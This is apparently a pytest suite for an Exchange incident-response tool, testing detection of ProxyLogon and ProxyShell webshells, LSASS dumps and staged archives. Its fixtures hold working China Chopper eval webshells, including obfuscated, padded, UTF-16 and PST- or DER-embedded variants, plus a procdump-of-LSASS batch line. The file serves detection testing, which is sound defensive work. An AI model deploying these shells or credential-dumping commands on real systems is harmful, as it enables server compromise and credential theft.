"""The file analyzer on realistic Exchange-era evidence: shells as the attackers left them, and
genuine files that must stay quiet."""

from __future__ import annotations

import hashlib
import struct
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yara_x

from exhunt.analyzers import HostContext, HuntOptions, file_analyzers, host_analyzers
from exhunt.analyzers.files import FILE_HUNT
from exhunt.engine import Task, run_batch
from exhunt.evidence.base import EvidenceFile, FileRef
from exhunt.filehunt.contentrules import ContentRules
from exhunt.model import ArtefactKind, Implies, Severity
from files_support import (
    ASPNET_CLIENT,
    CHOPPER,
    ECP_AUTH,
    OWA_AUTH,
    by_rule,
    hunt,
    oab_dump,
    plain_file,
    server_file,
)


def test_registered_for_files_and_iis_configs() -> None:
    assert FILE_HUNT in file_analyzers(ArtefactKind.FILE)
    assert FILE_HUNT in file_analyzers(ArtefactKind.IIS_CONFIG)
    assert FILE_HUNT not in file_analyzers(ArtefactKind.HTTPPROXY)
    assert any(a.name == "files-setup" for a in host_analyzers())


def test_oab_configuration_dump_in_owa_auth(tmp_path: Path) -> None:
    when = datetime(2021, 3, 3, 4, 13, tzinfo=UTC)
    f = server_file(tmp_path, OWA_AUTH + r"\ohyeah.aspx", oab_dump(), mtime=when)
    result = hunt(f)
    found = by_rule(result)
    oab = found["EXH-WS-OAB-CONFIG"]
    assert oab.severity is Severity.CRITICAL and oab.implies is Implies.COMPROMISE
    assert oab.chain == "ProxyLogon" and "CVE-2021-27065" in oab.cves
    assert oab.evidence.path == f.rel_path
    assert oab.evidence.sha256 == hashlib.sha256(oab_dump()).hexdigest()
    assert oab.evidence.line == 17 and "ExternalUrl" in (oab.evidence.excerpt or "")
    # the file time is a detail, not the event time (copies carry the copy's time)
    assert oab.timestamp is None and oab.detail("mtime") == "2021-03-03T04:13:00Z"
    assert oab.detail("size") == str(len(oab_dump()))
    assert "$url_code@" in (oab.detail("matched") or "")
    assert oab.detail("location") == "exchange-auth"
    # The same file is also a non-stock page in owa\auth, written in the ProxyLogon window.
    assert found["EXH-WS-AUTH-NONSTOCK"].severity is Severity.HIGH
    assert found["EXH-FS-ATTACK-WINDOW"].severity is Severity.MEDIUM
    assert found["EXH-FS-ATTACK-WINDOW"].timestamp == when


def test_oab_dump_without_script_is_not_a_shell(tmp_path: Path) -> None:
    # An administrator exporting the OAB settings to a text file: same properties, no code.
    f = server_file(tmp_path, r"C:\Users\admin\Desktop\oab.txt", oab_dump("https://mail.corp.example/OAB"))
    assert hunt(f).findings == []


def _pst_shell() -> bytes:
    # A PST header (!BDN, then version and CRC fields), binary blocks, the plaintext page that the
    # permutative encoding restored, more binary: the ProxyShell mailbox export.
    header = b"!BDN" + struct.pack("<IHHH", 0x1A2B3C4D, 0x534D, 23, 19) + bytes(range(256)) * 2
    page = (
        b'<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'
    )
    return header + b"\x00" * 4000 + page + bytes(range(255, -1, -1)) * 8


def test_pst_format_shell_in_aspnet_client(tmp_path: Path) -> None:
    f = server_file(tmp_path, ASPNET_CLIENT + r"\HWTJQDMFVMPOON.aspx", _pst_shell())
    found = by_rule(hunt(f))
    pst = found["EXH-WS-PST-ASPX"]
    assert pst.severity is Severity.CRITICAL and pst.chain == "ProxyShell"
    # binary file: the match is placed by byte offset, not by line
    assert pst.evidence.line is None and (pst.evidence.record or "").startswith("offset ")
    binary = found["EXH-WS-BINARY-PAGE"]
    assert binary.severity is Severity.HIGH and binary.implies is Implies.COMPROMISE
    assert binary.detail("container") == "PST (Outlook data file)"
    assert "EXH-WS-ASPNET-CLIENT-PAGE" in found


def test_pst_without_page_code_is_only_a_binary_page(tmp_path: Path) -> None:
    data = b"!BDN" + bytes(range(256)) * 40
    found = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\report.aspx", data)))
    assert set(found) == {"EXH-WS-BINARY-PAGE"}
    assert found["EXH-WS-BINARY-PAGE"].severity is Severity.MEDIUM
    assert found["EXH-WS-BINARY-PAGE"].implies is Implies.SUSPICIOUS


def _der_request(subject: bytes) -> bytes:
    # PKCS#10 request skeleton: SEQUENCE (0x30 0x82 len) holding a subject with the page in it.
    body = b"\x30\x82\x01\x0a\x02\x01\x00" + b"\x30" + bytes([len(subject) + 2])
    body += b"\x0c" + bytes([len(subject)])
    body += subject + bytes(range(64))
    return b"\x30\x82" + struct.pack(">H", len(body)) + body


def test_der_certificate_request_shell(tmp_path: Path) -> None:
    data = _der_request(b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>')
    found = by_rule(hunt(server_file(tmp_path, OWA_AUTH + r"\d62ffcd688.aspx", data)))
    assert found["EXH-WS-DER-ASPX"].severity is Severity.CRITICAL
    assert found["EXH-WS-IOC-PATH"].detail("published_path") == "frontend/httpproxy/owa/auth/d62ffcd688.aspx"


@pytest.mark.parametrize(
    "content",
    [
        CHOPPER,
        b'<%@ Page Language="Jscript"%><%eval(Request.Item(0),"unsafe");%>',
        b'<%@Page Language=JS%><%eval(Request.Item["a"],"unsafe");%>',
        b"GIF89a\r\n" + CHOPPER,
        # padded past the size bounds of simple rules, comments inside the call
        b'<%@ Page Language="Jscript" %>'
        + b"<%-- "
        + b"A" * 300_000
        + b" --%>"
        + b'<%eval/*x*/(Request.Form["p"],/**/"unsafe");%>',
        # names and the option assembled from characters and hex escapes
        b'<%@ PAGE LANGUAGE=JSCRIPT %><%var c="e"+"v"+"a"+"l"+"(";var k=Request["\\x6b"];'
        b'eval(k,"\\x75\\x6e\\x73\\x61"+"fe");%>',
        # saved as UTF-16
        '\ufeff<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>'.encode("utf-16-le"),
    ],
    ids=["one-liner", "item-0", "language-js", "gif-prefix", "padded", "char-built", "utf16"],
)
def test_china_chopper_variants(tmp_path: Path, content: bytes) -> None:
    found = by_rule(hunt(server_file(tmp_path, ASPNET_CLIENT + r"\system_web\zxvt0lpt.aspx", content)))
    chopper = found["EXH-WS-CHOPPER"]
    assert chopper.severity is Severity.CRITICAL and chopper.implies is Implies.COMPROMISE
    assert chopper.detail("yara_rule") == "exhunt_chopper_jscript_eval"


def test_utf16_excerpt_is_decoded(tmp_path: Path) -> None:
    page = '\ufeff<%@ Page Language="Jscript"%>\r\n<%eval(Request.Item["q"],"unsafe");%>'
    content = page.encode("utf-16-le")
    chopper = by_rule(hunt(plain_file(tmp_path, "u16.aspx", content)))["EXH-WS-CHOPPER"]
    assert "Page Language" in (chopper.evidence.excerpt or "")


def test_chopper_outside_the_web_roots_weighs_less(tmp_path: Path) -> None:
    f = server_file(tmp_path, r"C:\Users\analyst\Downloads\samples\shell.aspx", CHOPPER)
    chopper = by_rule(hunt(f))["EXH-WS-CHOPPER"]
    assert chopper.severity is Severity.HIGH and chopper.implies is Implies.SUSPICIOUS
    assert chopper.detail("weight") == "lowered: the file lies outside the web roots"


def test_genuine_logon_page_in_owa_auth_is_quiet(tmp_path: Path) -> None:
    page = (
        b'<%@ Page language="c#" AutoEventWireup="false" '
        b'Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\r\n'
        b'<%@ Import namespace="Microsoft.Exchange.Clients"%>\r\n<!DOCTYPE html>\r\n<html><head>'
        b"<title><%=Strings.GetLocalizedString(LocStringIDs.OutlookWebAccess)%></title></head>\r\n"
        b'<body><form action="/owa/auth.owa" method="POST" name="logonForm">'
        b'<input id="username" name="username" type="text"><input id="password" name="password" '
        b'type="password"></form></body></html>\r\n'
    )
    when = datetime(2021, 3, 4, 9, 0, tzinfo=UTC)  # rewritten by the March 2021 security update
    for name in ("logon.aspx", "RedirSuiteServiceProxy.aspx"):
        assert hunt(server_file(tmp_path, OWA_AUTH + "\\" + name, page, mtime=when)).findings == []
    static = server_file(tmp_path, OWA_AUTH + r"\15.1.2176\themes\resources\logon.css", b"body{margin:0}")
    assert hunt(static).findings == []


def test_look_alike_and_non_stock_names_in_auth_folders(tmp_path: Path) -> None:
    page = b'<%@ Page Language="C#" %><html></html>'
    lookalike = by_rule(hunt(server_file(tmp_path, OWA_AUTH + r"\RedirSuiteServerProxy.aspx", page)))
    assert lookalike["EXH-WS-AUTH-LOOKALIKE"].detail("imitates") == "redirsuiteserviceproxy.aspx"
    other = by_rule(hunt(server_file(tmp_path, ECP_AUTH + r"\w.aspx", page)))
    assert other["EXH-WS-AUTH-NONSTOCK"].severity is Severity.HIGH
    log = by_rule(hunt(server_file(tmp_path, OWA_AUTH + r"\google.log", b"whoami\r\n")))
    assert log["EXH-WS-AUTH-NONSTOCK"].severity is Severity.MEDIUM
    assert log["EXH-WS-IOC-PATH"].severity is Severity.HIGH  # published by Microsoft


def test_published_name_that_is_also_stock_prompts_a_hash_check(tmp_path: Path) -> None:
    f = server_file(tmp_path, ECP_AUTH + r"\TimeoutLogout.aspx", b'<%@ Page Language="C#" %>')
    found = by_rule(hunt(f))
    hit = found["EXH-WS-IOC-PATH"]
    assert hit.severity is Severity.LOW and hit.implies is Implies.NOTHING
    assert "stock Exchange file" in (hit.detail("note") or "")


def _minidump(modules: list[str], size: int = 8192) -> bytes:
    head = b"MDMP" + struct.pack("<HHIII", 0xA793, 0, 3, 32, 0)
    names = b"".join(struct.pack("<I", len(m) * 2) + m.encode("utf-16-le") + b"\x00\x00" for m in modules)
    body = head + b"\x00" * 64 + names
    return body + b"\x00" * max(0, size - len(body))


def test_lsass_dump_recognised_by_content_under_another_name(tmp_path: Path) -> None:
    data = _minidump(
        [r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\lsasrv.dll", r"C:\Windows\System32\ntdll.dll"]
    )
    found = by_rule(hunt(server_file(tmp_path, r"C:\Windows\Temp\debug.dmp", data)))
    dump = found["EXH-FS-LSASS-DUMP"]
    assert dump.severity is Severity.HIGH and dump.implies is Implies.COMPROMISE
    assert dump.category == "credential-access"
    assert "EXH-FS-MINIDUMP" not in found  # one finding, the stronger one


def test_lsass_dump_by_name_and_larger_than_the_scan_limit(tmp_path: Path) -> None:
    data = _minidump([r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\lsasrv.dll"], size=300_000)
    f = server_file(tmp_path, r"C:\root\lsass.dmp", data)
    result = hunt(f, max_file_size=64 * 1024)
    dump = by_rule(result)["EXH-FS-LSASS-DUMP"]
    assert "lsass*.dmp" in (dump.detail("why") or "") and "module list" in (dump.detail("why") or "")
    assert dump.evidence.sha256 == hashlib.sha256(data).hexdigest()  # hashed to the end regardless
    assert [e.message for e in result.errors if "content not scanned: size limit" in e.message]


def test_other_minidumps_by_place(tmp_path: Path) -> None:
    data = _minidump([r"C:\Windows\System32\svchost.exe"])
    temp = by_rule(hunt(server_file(tmp_path, r"C:\Windows\Temp\a.bin", data)))
    assert temp["EXH-FS-MINIDUMP"].severity is Severity.MEDIUM
    web = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\x.tmp", data)))
    assert web["EXH-FS-MINIDUMP"].severity is Severity.HIGH
    wer = server_file(tmp_path, r"C:\ProgramData\Microsoft\Windows\WER\ReportQueue\a.dmp", data)
    assert hunt(wer).findings == []


def test_archives_in_programdata_stay_low(tmp_path: Path) -> None:
    zip_bytes = _zip({"readme.txt": b"agent package"})
    vendor = by_rule(hunt(server_file(tmp_path, r"C:\ProgramData\McAfee\Agent\Updates\pkg.zip", zip_bytes)))
    assert set(vendor) == {"EXH-FS-ARCHIVE-STAGED"}
    assert vendor["EXH-FS-ARCHIVE-STAGED"].severity is Severity.LOW
    assert vendor["EXH-FS-ARCHIVE-STAGED"].implies is Implies.NOTHING
    staged = by_rule(hunt(server_file(tmp_path, r"C:\ProgramData\it.zip", zip_bytes)))
    assert staged["EXH-FS-ARCHIVE-STAGED"].severity is Severity.LOW
    assert staged["EXH-FS-ARCHIVE-STAGED"].implies is Implies.SUSPICIOUS
    web = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\x.dmp.zip", zip_bytes)))
    assert web["EXH-FS-ARCHIVE-STAGED"].severity is Severity.MEDIUM


def test_attack_script_with_published_command_lines(tmp_path: Path) -> None:
    script = (
        b"@echo off\r\nC:\\Windows\\Temp\\pd.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass\r\n"
        b"7z.exe a -t7z -mx9 C:\\ProgramData\\it.zip C:\\ProgramData\\pst\r\n"
    )
    hit = by_rule(hunt(server_file(tmp_path, r"C:\Windows\Temp\xx.bat", script)))["EXH-FS-ATTACK-SCRIPT"]
    assert hit.evidence.line == 2 and "lsass" in (hit.evidence.excerpt or "")
    assert "$procdump_temp@" in (hit.detail("matched") or "")


def test_compiled_record_of_a_deleted_shell(tmp_path: Path) -> None:
    record = (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" '
        b'virtualPath="/owa/auth/ohyeah.aspx" hash="fffffff0a3c1e8e4" filehash="d1c1f1e0" '
        b'flags="110000" assembly="App_Web_4zvlb2xa" type="ASP.auth_ohyeah_aspx">\r\n</preserve>\r\n'
    )
    temp = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\1d7a0e0f\8a7b2c3d"
    hit = by_rule(hunt(server_file(tmp_path, temp + r"\ohyeah.aspx.f5dba9b9.compiled", record)))
    assert hit["EXH-WS-COMPILED-PAGE"].detail("virtual_path") == "/owa/auth/ohyeah.aspx"
    genuine = record.replace(b"ohyeah", b"logon")
    assert hunt(server_file(tmp_path, temp + r"\logon.aspx.1a2b3c4d.compiled", genuine)).findings == []


def test_plain_folder_of_files_still_hunted(tmp_path: Path) -> None:
    # `exhunt hunt SOME_FOLDER`: no Windows path, location unknown, content rules at full weight
    f = plain_file(tmp_path, "incoming/a.aspx", CHOPPER)
    chopper = by_rule(hunt(f))["EXH-WS-CHOPPER"]
    assert chopper.severity is Severity.CRITICAL and chopper.detail("location") == "unknown"


# ------------------------------------------------------------------------------ hostile input


def test_unreadable_file_is_reported_and_name_checks_still_run(tmp_path: Path) -> None:
    gone = EvidenceFile(
        FileRef(str(tmp_path / "vanished.aspx")),
        "C/inetpub/wwwroot/aspnet_client/vanished.aspx",
        ArtefactKind.FILE,
        120,
        None,
        ASPNET_CLIENT + r"\vanished.aspx",
    )
    result = hunt(gone)
    assert result.errors and "cannot read" in result.errors[0].message
    assert result.errors[0].path == gone.rel_path
    page = by_rule(result)["EXH-WS-ASPNET-CLIENT-PAGE"]
    assert page.evidence.sha256 is None and page.detail("size") == "120"


def test_directory_and_broken_zip_member(tmp_path: Path) -> None:
    (tmp_path / "d.aspx").mkdir()
    folder = EvidenceFile(FileRef(str(tmp_path / "d.aspx")), "d.aspx", ArtefactKind.FILE, 0)
    assert "cannot read" in hunt(folder).errors[0].message
    archive = tmp_path / "c.zip"
    archive.write_bytes(_zip({"x.aspx": CHOPPER * 50}))
    raw = bytearray(archive.read_bytes())
    at = raw.find(b"Jscript", 60)  # corrupt the stored member's data, keep the directory intact
    raw[at : at + 40] = b"\xff" * 40
    archive.write_bytes(bytes(raw))
    member = EvidenceFile(FileRef("x.aspx", str(archive)), "c.zip/x.aspx", ArtefactKind.FILE, 10)
    # The data no longer matches its CRC: it is still read and hunted, and the mismatch is named.
    result = run_batch([Task("files", member)], HostContext("EX01", None, HuntOptions()))
    assert [e.message for e in result.errors if e.path == "c.zip/x.aspx" and "CRC mismatch" in e.message]
    assert result.findings


def test_zip_member_evidence_is_scanned(tmp_path: Path) -> None:
    archive = tmp_path / "collection.zip"
    archive.write_bytes(_zip({"C/inetpub/wwwroot/aspnet_client/s.aspx": CHOPPER}))
    member = EvidenceFile(
        FileRef("C/inetpub/wwwroot/aspnet_client/s.aspx", str(archive)),
        "C/inetpub/wwwroot/aspnet_client/s.aspx",
        ArtefactKind.FILE,
        len(CHOPPER),
    )
    found = by_rule(hunt(member))
    assert {"EXH-WS-CHOPPER", "EXH-WS-ASPNET-CLIENT-PAGE", "EXH-WS-IOC-PATH"} <= set(found)


def test_empty_and_junk_files(tmp_path: Path) -> None:
    empty = by_rule(hunt(server_file(tmp_path, OWA_AUTH + r"\x.aspx", b"")))
    assert set(empty) == {"EXH-WS-AUTH-NONSTOCK"}
    assert empty["EXH-WS-AUTH-NONSTOCK"].evidence.sha256 == hashlib.sha256(b"").hexdigest()
    junk = bytes((i * 7919) % 251 for i in range(50_000))
    assert hunt(plain_file(tmp_path, "junk.bin", junk)).findings == []
    binary = by_rule(hunt(plain_file(tmp_path, "junk.aspx", b"\x01\x02" + junk)))
    assert binary["EXH-WS-BINARY-PAGE"].detail("container") == "binary data"
    huge_line = b'<%@ Page Language="C#" %>' + b"x" * 2_000_000
    assert hunt(plain_file(tmp_path, "long.aspx", huge_line)).findings == []


def test_content_scan_timeout_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def slow(self: ContentRules, data: bytes, names: dict[str, str] | None = None) -> list[object]:
        raise yara_x.TimeoutError("timeout")

    monkeypatch.setattr(ContentRules, "scan", slow)
    result = hunt(plain_file(tmp_path, "a.aspx", CHOPPER))
    assert "timed out" in result.errors[0].message
    # No YARA finding; the code analyzer, which does not depend on YARA, still reads the page.
    assert [f.rule_id for f in result.findings] == ["EXH-WS-CODE-EVAL"]


def test_result_crosses_process_boundaries(tmp_path: Path) -> None:
    import pickle

    result = hunt(server_file(tmp_path, OWA_AUTH + r"\ohyeah.aspx", oab_dump()))
    again = pickle.loads(pickle.dumps(result))
    assert [f.rule_id for f in again.findings] == [f.rule_id for f in result.findings]
    ctx = HostContext("h", None, HuntOptions(extra_yara_paths=("/x",)))
    assert pickle.loads(pickle.dumps(ctx)) == ctx


def _zip(members: dict[str, bytes]) -> bytes:
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()
